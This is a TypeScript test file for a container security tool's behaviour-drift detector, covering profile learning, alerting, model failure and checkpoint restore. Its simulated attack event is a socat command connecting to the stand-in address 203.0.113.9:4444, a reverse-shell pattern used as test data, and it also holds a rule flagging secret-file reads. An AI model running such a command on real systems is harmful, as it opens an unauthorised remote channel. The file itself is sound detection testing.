import type { Alert } from '@picket/sdk';
import { beforeAll, describe, expect, it } from 'vitest';
import { BehaviourEngine } from './detection/anomaly/engine/behaviour-engine.ts';
import type { BehaviourProgram, LiveWorkload } from './detection/anomaly/engine/behaviour-program.ts';
import { EMPTY, learnedProgram } from './detection/anomaly/engine/testing/learned-program.ts';
import { PlayedShop } from './detection/anomaly/engine/testing/played-shop.ts';
import { loadRules } from './detection/rules/load/load-rules.ts';
import { RuleEngine } from './detection/rules/rule-engine.ts';
import { Partition } from './partition.ts';
import type { Batch } from './types.ts';

const RULES = `
- rule: secret read
  desc: test
  condition: evt.type in (open, openat) and fd.name startswith /secret/
  output: "%fd.name"
  priority: WARNING
`;
const engine = new RuleEngine(loadRules([{ name: 'test.yaml', text: RULES }]));
const LEARNED_SECONDS = 3900;

function watch(program: () => BehaviourProgram, failures: unknown[] = []) {
  const behaviour = new BehaviourEngine(program, { onModelFailure: (_, error) => failures.push(error) });
  const partition = new Partition(() => engine, { behaviour });
  const handle = (batches: readonly Batch[]): Alert[] => batches.flatMap((batch) => partition.handle(batch));
  return { behaviour, partition, handle };
}

const reportsOf = (alerts: readonly Alert[]): string[] => alerts.map(({ rule, output }) => `${rule}: ${output}`);

/** What three web containers taught in an hour. */
let learned: BehaviourProgram;

beforeAll(() => {
  const { behaviour, handle } = watch(() => EMPTY);
  expect(handle(new PlayedShop({ slots: [1, 2, 3], seed: 7 }).play(LEARNED_SECONDS))).toEqual([]);
  learned = learnedProgram(behaviour.materials());
});

/** A container of the same workload on another node, watched for a while. */
function newcomer(program: () => BehaviourProgram = () => learned, seed = 99) {
  const shop = new PlayedShop({ node: 'node-b', slots: [1], seed });
  return { shop, ...watch(program) };
}

describe('learning', () => {
  it('makes one workload of containers that are the same, and learns from their windows', () => {
    expect(learned.workloads).toHaveLength(1);
    expect(learned.workloads[0]).toMatchObject({ key: 'web-*/registry.example/shop/web', digest: 'sha256:one' });
    expect(learned.workloads[0]?.profile.stats()).toMatchObject({ runs: 3 });
    expect(learned.workloads[0]?.profile.knows('x:/usr/sbin/nginx')).toBe(true);
  });

  it('hands on only what has grown, and again what nobody took', () => {
    const { shop, behaviour, handle } = newcomer();
    handle(shop.play(30));
    const rows = behaviour.materials();
    expect(rows).toHaveLength(1);
    expect(behaviour.materials()).toEqual([]);
    behaviour.notTaken(rows);
    expect(behaviour.materials()).toEqual(rows);
  });

  it('begins anew when an operator resets the workload', () => {
    let program = EMPTY;
    const { shop, behaviour, handle } = newcomer(() => program);
    handle(shop.play(120));
    const [row] = behaviour.materials();
    program = { ...EMPTY, marks: [{ key: row?.key ?? '', digest: row?.digest ?? '', epoch: 5, paused: false }] };
    handle(shop.play(60));
    const [again] = behaviour.materials();
    expect(again?.epoch).toBe(5);
    expect(again?.bytes.length).toBeLessThan(row?.bytes.length ?? 0);
  });

  it.each([
    ['events were lost', 'loss', (shop: PlayedShop) => [shop.lost(1, 100)]],
    ['an incident is open', 'incident', (shop: PlayedShop) => [shop.open(1, 10, '/secret/key')]],
  ] as const)('does not learn while %s', (_, reason, act) => {
    const { shop, behaviour, handle } = newcomer(() => EMPTY);
    handle(shop.play(65, (second) => (second % 10 === 5 ? act(shop) : [])));
    expect(behaviour.stats.refused.get(reason)).toBeGreaterThanOrEqual(5);
    expect(behaviour.stats.learned).toBeLessThanOrEqual(1);
  });

  it('does not learn while it is paused', () => {
    const [{ key, digest } = { key: '', digest: '' }] = learned.workloads;
    const paused = { ...EMPTY, marks: [{ key, digest, epoch: 0, paused: true }] };
    const { shop, behaviour, handle } = newcomer(() => paused);
    handle(shop.play(30));
    expect(behaviour.stats.learned).toBe(0);
    // two of 10 s, and the minute that ended in between
    expect(behaviour.stats.refused.get('paused')).toBe(3);
  });
});

describe('what is not in the profile', () => {
  const act = (shop: PlayedShop) => [
    shop.exec(1, 77, '/usr/bin/socat', ['socat', '-', 'TCP:203.0.113.9:4444']),
    shop.connect(1, 77, '203.0.113.9', 4444),
  ];

  it('is told within seconds, with what is new in words, the process and the events', () => {
    const { shop, handle } = newcomer();
    expect(reportsOf(handle(shop.play(300)))).toEqual([]);
    const [alert, ...others] = handle([...shop.play(1, () => act(shop)), ...shop.play(3)]);
    expect(others).toEqual([]);
    expect(alert).toMatchObject({
      rule: 'Behaviour drift',
      source: 'anomaly',
      detector: { kind: 'model', id: 'behaviour-drift' },
      container: { name: 'web-1' },
      process: { exepath: '/usr/bin/socat', pid: 77 },
      evidence: { metadata: 'complete', lost: [] },
    });
    expect(alert?.output).toMatch(/new program \/usr\/bin\/socat.*container=web-1/);
    expect(alert?.score).toBeGreaterThan(3);
    expect(alert?.explanation?.map(({ text }) => text).join()).toMatch(/203\.0\.113/);
    expect(alert?.evidence.events.length).toBeGreaterThanOrEqual(3);
    expect(alert?.incident).not.toBeNull();
  });

  it('is told once, and something else that is new again', () => {
    const { shop, handle } = newcomer();
    handle(shop.play(60));
    const isDrift = ({ rule }: Alert) => rule === 'Behaviour drift';
    const first = handle([...shop.play(20, () => act(shop)), ...shop.play(3)]).filter(isDrift);
    expect(new Set(first.map(({ uuid }) => uuid)).size).toBe(1);
    expect(first.at(-1)?.count).toBe(1);
    const next = handle([...shop.play(1, () => [shop.exec(1, 78, '/usr/bin/xxd')]), ...shop.play(3)]).filter(isDrift);
    expect(
      next
        .at(-1)
        ?.explanation?.map(({ text }) => text)
        .join(),
    ).toMatch(/xxd/);
  });

  it.each([
    ['learning', 'Notice', ['behaviour', 'learning']],
    ['monitor', undefined, ['behaviour']],
    ['enforce', undefined, ['behaviour', 'enforce']],
  ] as const)('has the priority of the stage %s', (stage, priority, tags) => {
    const program = { ...learned, workloads: learned.workloads.map((live) => ({ ...live, stage })) };
    const { shop, handle } = newcomer(() => program);
    handle(shop.play(30));
    const [alert] = handle([...shop.play(1, () => act(shop)), ...shop.play(3)]);
    expect(alert?.tags).toEqual(tags);
    if (priority) expect(alert?.priority).toBe(priority);
    if (stage === 'enforce') expect(['Warning', 'Error']).toContain(alert?.priority);
  });

  it('is not learned, before it comes again elsewhere', () => {
    const { shop, behaviour, handle } = newcomer();
    handle(shop.play(60));
    handle(shop.play(60, (second) => (second % 60 === 5 ? act(shop) : [])));
    expect(
      (behaviour.stats.refused.get('strange') ?? 0) + (behaviour.stats.refused.get('incident') ?? 0),
    ).toBeGreaterThan(0);
  });
});

it('is not learned as it goes on, told or not', () => {
  const quiet = { ...learned, workloads: learned.workloads.map((live) => ({ ...live, stage: 'review' as const })) };
  const { shop, behaviour, handle } = newcomer(() => quiet);
  handle(shop.play(70));
  const before = behaviour.stats.learned;
  const alerts = handle(shop.play(90, (second) => (second % 10 === 5 ? [shop.exec(1, 77, '/usr/bin/socat')] : [])));
  expect(alerts.length).toBeGreaterThan(0);
  expect(behaviour.stats.refused.get('incident')).toBeUndefined();
  expect(behaviour.stats.refused.get('strange')).toBeGreaterThanOrEqual(8);
  // the window that ended before it began
  expect(behaviour.stats.learned - before).toBeLessThanOrEqual(1);
});

describe('a model that can not be used', () => {
  const broken = (score: () => unknown): (() => BehaviourProgram) => {
    const model = { score, explain: () => [], bytes: 0 } as unknown as NonNullable<LiveWorkload['model']>;
    const program = { ...learned, workloads: learned.workloads.map((live) => ({ ...live, model })) };
    return () => program;
  };

  it.each([
    [
      'throws',
      () => {
        throw new Error('a broken forest');
      },
    ],
    ['gives no number', () => ({ value: Number.NaN, parts: new Float64Array(5), abstains: false })],
  ] as const)('because it %s is switched off, told once, and harms nobody', (_, score) => {
    const failures: unknown[] = [];
    const shop = new PlayedShop({ node: 'node-b', slots: [1, 2] });
    const { handle, behaviour } = watch(broken(score), failures);
    const alerts = handle(shop.play(200, (second) => (second % 50 === 9 ? [shop.open(1, 10, '/secret/x')] : [])));
    const rules = new Map(alerts.map(({ uuid, rule }) => [uuid, rule]));
    expect([...rules.values()].filter((rule) => rule === 'Behaviour model failed')).toHaveLength(1);
    expect([...rules.values()]).toContain('secret read');
    expect(failures).toHaveLength(1);
    expect(behaviour.stats.failures.get('model')).toBe(1);
    expect(behaviour.stats.learned).toBeGreaterThan(0);
  });
});

describe('a checkpoint', () => {
  it('makes no difference to what is found and learned', () => {
    const story = (restartEvery: number) => {
      const shop = new PlayedShop({ node: 'node-b', slots: [1, 2], seed: 5 });
      const batches = shop.play(250, (second) => [
        ...(second % 97 === 3 ? [shop.exec(1, 77, `/opt/tool-${second}/run`)] : []),
        ...(second % 131 === 7 ? [shop.connect(2, 10, '198.51.100.7', 4444), shop.lost(2, 5)] : []),
        ...(second % 200 > 170 ? [shop.calls(1, { 1: 90_000, 101: 5 })] : []),
      ]);
      let { behaviour, partition } = watch(() => learned);
      const alerts = batches.flatMap((batch, i) => {
        const told = partition.handle(batch);
        if ((i + 1) % restartEvery !== 0) return told;
        const state = partition.snapshot();
        ({ behaviour, partition } = watch(() => learned));
        partition.restore(state);
        return told;
      });
      return { alerts, rows: behaviour.materials() };
    };
    const whole = story(10_000);
    expect(whole.alerts.length).toBeGreaterThanOrEqual(3);
    for (const every of [3, 60]) {
      const { alerts, rows } = story(every);
      expect(alerts).toEqual(whole.alerts);
      expect(rows.map(({ bytes }) => Buffer.from(bytes).toString('base64'))).toEqual(
        whole.rows.map(({ bytes }) => Buffer.from(bytes).toString('base64')),
      );
    }
  });

  it('that can not be read, or is of a version without behaviour, lets behaviour begin afresh and nobody else', () => {
    const { shop, handle, partition } = newcomer();
    handle(shop.play(30));
    const state = partition.snapshot();
    const cut = watch(() => learned);
    const lost: unknown[] = [];
    const damaged = new Partition(() => engine, {
      behaviour: cut.behaviour,
      onBehaviourLost: (error) => lost.push(error),
    });
    const bytes = Buffer.from(state);
    bytes.fill(7, bytes.indexOf('PKB2'), bytes.indexOf('PKB2') + 4);
    damaged.restore(new Uint8Array(bytes));
    expect(lost).toHaveLength(1);
    expect(damaged.nodes().map(({ node }) => node)).toEqual(['node-b']);
    const without = new Partition(() => engine);
    without.restore(state);
    const old = new Partition(() => engine);
    handle(shop.play(1));
    const later = watch(() => learned);
    later.partition.restore(old.snapshot());
    expect(later.handle(shop.play(5))).toEqual([]);
  });
});
